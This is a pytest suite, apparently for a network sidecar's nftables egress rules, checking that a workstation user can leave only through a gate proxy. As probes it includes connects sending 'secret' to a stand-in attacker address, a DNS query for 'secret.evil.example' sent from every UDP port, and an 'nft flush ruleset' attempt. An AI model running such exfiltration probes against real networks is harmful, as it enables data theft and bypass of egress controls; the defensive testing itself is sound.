"""The sidecar's packet rules (deploy/sidecar/packet-rules.nft) in the namespace that gate and
workstation share: only the gate's user gets out, and what is refused is refused at once."""
import json
import os
import signal
import subprocess
import time

import pytest

from gate import TOP, binary
from lab import CLEAN_PATH, run, wait_until

LAB = f"{TOP}/deploy/lab"
ATTACKER, CREDENTIALS, GATE_METRICS = "198.18.2.66", "169.254.170.2", "198.18.3.2"
DOCKERS_NAMES = "127.0.0.11"
IPV6_OUTSIDE = "2001:db8:2::2"
GATE_UID = 65532
CONNECT = """
import socket, sys, time
family, kind, host, port = sys.argv[1:]
peer = socket.socket(getattr(socket, family), getattr(socket, kind))
peer.settimeout(5)
start = time.monotonic()
try:
    peer.connect((host, int(port)))
    if kind == "SOCK_DGRAM":
        peer.send(b"secret")
        peer.recv(1)
    said = "connected"
except OSError as error:
    said = type(error).__name__ if error.errno is None else error.strerror
print(said, round(time.monotonic() - start, 3), sep="|")
"""


def user_of(process):
    """None where it has ended."""
    try:
        return os.stat(f"/proc/{process}").st_uid
    except FileNotFoundError:
        return None


class Station:
    """A lab of the sidecar that is up."""

    def __init__(self, lab):
        self.state = lab.make_folder("sidecar")
        self._prefix = f"t{os.getpid() % 10000}sc"
        self._environment = {
            "PATH": CLEAN_PATH,
            "SALLYPORT": binary(),
            "LAB": self._prefix,
            "LAB_STATE": self.state,
        }
        self._script("lab.sh", "up", "sidecar")

    def _script(self, name, *arguments, check=True):
        done = subprocess.run(
            ["bash", f"{LAB}/{name}", *arguments],
            env=self._environment,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert not check or done.returncode == 0, done.stdout + done.stderr
        return done.stdout

    def run(self, *command):
        """What a program of the workstation's user prints."""
        return self._script("lab.sh", "on-workstation", *command, check=False)

    def dial(self, family, kind, host, port):
        """What becomes of a direct connect, and after how many seconds."""
        said, seconds = self.run(
            "/usr/bin/python3", "-c", CONNECT, family, kind, host, str(port)
        ).split("|")
        return said, float(seconds)

    def refused(self):
        """Packets by counter."""
        lines = self._script("namespaces.sh", "refused").splitlines()
        return {name: int(packets) for _, name, packets in map(str.split, lines)}

    def on(self, host, *command):
        return self._script("namespaces.sh", "exec", host, *command, check=False)

    def start(self, code):
        """A Python program of the workstation's user, which goes on."""
        return subprocess.Popen(
            ["bash", f"{LAB}/namespaces.sh", "as", "1000", "ws", "/usr/bin/python3", "-c", code],
            env=self._environment,
            stdout=subprocess.PIPE,
            text=True,
            start_new_session=True,
        )

    @staticmethod
    def end(program):
        """Ends what start() started; what it printed since."""
        os.killpg(program.pid, signal.SIGKILL)
        return program.communicate()[0]

    def attacker(self):
        """Bytes that the attacker's own machine received."""
        with open(f"{self.state}/attacker/own.json", encoding="ascii") as file:
            return sum(json.load(file).values())

    def gate_processes(self):
        """Of this lab alone: every namespace sees the machine's processes."""
        inside = run("ip", "netns", "pids", f"{self._prefix}-ws").split()
        return [int(each) for each in inside if user_of(each) == GATE_UID]

    def stop_gate(self):
        for process in self.gate_processes():
            os.kill(process, signal.SIGTERM)
        wait_until(lambda: not self.gate_processes(), 40, "the gate to end")

    def start_gate(self):
        self._script("lab.sh", "gate", "ws")

    def close(self):
        self._script("lab.sh", "down")


@pytest.fixture(scope="module")
def station(lab):
    made = Station(lab)
    yield made
    made.close()


@pytest.mark.parametrize(
    "family, kind, host, port, said, counter",
    [
        ("AF_INET", "SOCK_STREAM", ATTACKER, 443, "Connection refused", "refused_tcp"),
        ("AF_INET", "SOCK_STREAM", ATTACKER, 22, "Connection refused", "refused_tcp"),
        ("AF_INET6", "SOCK_STREAM", IPV6_OUTSIDE, 443, "Connection refused", "refused_tcp"),
        ("AF_INET", "SOCK_DGRAM", ATTACKER, 53, "Operation not permitted", "refused_dns"),
        ("AF_INET", "SOCK_DGRAM", DOCKERS_NAMES, 53, "Operation not permitted", "refused_dns"),
        ("AF_INET", "SOCK_STREAM", DOCKERS_NAMES, 53, "Connection refused", "refused_dns"),
        ("AF_INET", "SOCK_DGRAM", ATTACKER, 443, "Operation not permitted", "refused_other"),
        ("AF_INET6", "SOCK_DGRAM", IPV6_OUTSIDE, 443, "Operation not permitted", "refused_other"),
        ("AF_INET", "SOCK_STREAM", CREDENTIALS, 443, "Connection refused", "refused_tcp"),
        ("AF_INET", "SOCK_STREAM", GATE_METRICS, 9180, "Connection refused", "refused_tcp"),
    ],
    ids=["https", "ssh", "ipv6", "dns", "docker-dns", "docker-dns-tcp", "quic", "quic-ipv6",
         "credentials-443", "metrics"],
)
def test_a_direct_way_out_is_refused_at_once_and_counted(
    station, family, kind, host, port, said, counter
):
    before = station.refused()[counter]
    told, seconds = station.dial(family, kind, host, port)
    assert told == said
    assert seconds < 1
    assert station.refused()[counter] > before


def test_a_name_that_may_not_be_resolved_is_answered_at_once(station):
    start = time.monotonic()
    assert station.run("getent", "hosts", "secret.evil.example") == ""
    assert time.monotonic() - start < 1.5  # with the start of a shell in another namespace


def test_credentials_come_without_the_proxy(station):
    said = station.run("curl", "-sS", f"http://{CREDENTIALS}/credentials")
    assert "AccessKeyId" in said


def test_an_allowed_host_is_reached_through_the_gate(station):
    assert "Console" in station.run("curl", "-sS", "https://console.aws.amazon.com/")


def test_nobody_outside_reaches_the_gate(station):
    by_gate = ["-x", "http://198.18.1.10:3128", "-w", "%{errormsg}"]
    said = station.on("net", "curl", "-sS", "-m", "5", *by_gate, "https://console.aws.amazon.com/")
    assert "Failed to connect" in said
    assert station.refused()["refused_inbound"] > 0


def test_prometheus_reaches_the_metrics(station):
    station.on("net", "ip", "route", "replace", "198.18.3.2", "via", "198.18.2.1")
    station.on("gw", "ip", "route", "replace", "198.18.3.2", "via", "198.18.1.10")
    said = station.on("net", "curl", "-sS", "-m", "5", f"http://{GATE_METRICS}:9180/metrics")
    assert "sallyport_build_info" in said


def test_the_workstation_cannot_change_the_rules(station):
    said = station.run("bash", "-c", "/usr/sbin/nft flush ruleset 2>&1")
    assert "Operation not permitted" in said
    assert station.dial("AF_INET", "SOCK_STREAM", ATTACKER, 443)[0] == "Connection refused"


# From each port that the gate may have asked a name server from: they are tracked for a while.
REUSE = r"""
import socket
query = bytes.fromhex("010201000001000000000000") + b"\6secret\4evil\7example\0\0\1\0\1"
for port in range(1024, 65536):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        try:
            peer.bind(("0.0.0.0", port))
            peer.connect(("198.18.2.53", 53))
            peer.send(query)
            print("sent from", port)
        except OSError:
            pass
"""


def test_no_port_that_the_gate_has_left_lets_another_user_out(station):
    for number in range(6):
        station.run("curl", "-sS", "-o", "/dev/null", f"https://x{number}.aws.amazon.com/")
    before = station.attacker()
    assert station.run("/usr/bin/python3", "-c", REUSE) == ""
    assert station.attacker() == before


SERVE = """
import socket
server = socket.create_server(("", {port}), reuse_port=True)
print("listens", flush=True)
server.settimeout(20)
connection, _ = server.accept()
connection.sendall(b"secret")
print("served", flush=True)
"""


def test_a_server_of_the_workstation_is_reached_by_nobody_outside(station):
    before = station.refused()["refused_inbound"]
    server = station.start(SERVE.format(port=8000))
    assert server.stdout.readline() == "listens\n"
    said = station.on("net", "curl", "-sS", "-m", "5", "--http0.9", "http://198.18.1.10:8000/")
    assert "served" not in station.end(server)
    assert said == ""
    assert station.refused()["refused_inbound"] > before


def test_nobody_answers_at_the_gates_port_while_it_is_away(station):
    station.stop_gate()
    server = station.start(SERVE.format(port=3128))
    assert server.stdout.readline() == "listens\n"
    said = station.run("curl", "-sS", "-m", "2", "--http0.9", "http://127.0.0.1:3128/")
    served = station.end(server)
    station.start_gate()
    assert said == ""
    assert "served" not in served


def test_a_restarted_gate_serves_the_same_workstation_again(station):
    before = station.gate_processes()
    station.stop_gate()
    station.start_gate()
    assert station.gate_processes() and station.gate_processes() != before
    assert "Console" in station.run("curl", "-sS", "https://console.aws.amazon.com/")
    assert station.dial("AF_INET", "SOCK_STREAM", ATTACKER, 443)[0] == "Connection refused"
